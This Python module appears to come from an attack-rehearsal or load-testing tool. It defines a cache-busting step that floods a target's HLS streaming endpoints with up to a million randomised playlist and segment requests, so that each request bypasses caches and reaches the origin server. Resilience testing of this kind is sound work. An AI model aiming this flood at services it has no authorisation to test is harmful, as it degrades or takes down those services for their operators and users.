"""Cache busting: playlists and parts under addresses that nobody asked for before."""

from __future__ import annotations

from collections.abc import Iterator

from rostra.rehearsal.attacks.steps import Aim, Answer, Send, Step
from rostra.rehearsal.draws import mix


def script(aim: Aim, number: int) -> Iterator[Step]:
    room = aim.target.path
    for turn in range(1_000_000):
        drawn = mix(number << 20 ^ turn)
        word = aim.word(number << 20 ^ turn, 16)
        yield Send(
            aim.get(f"{room}/hls/opus.m3u8?{word}={drawn}")
            + aim.get(f"{room}/hls/opus.m3u8?_HLS_msn={drawn % 1000}&_HLS_part={drawn % 8}&_={word}")
            + aim.get(f"{room}/hls/opus/g{drawn % 1000}-p{drawn >> 40}.m4s")
        )
        yield Answer()
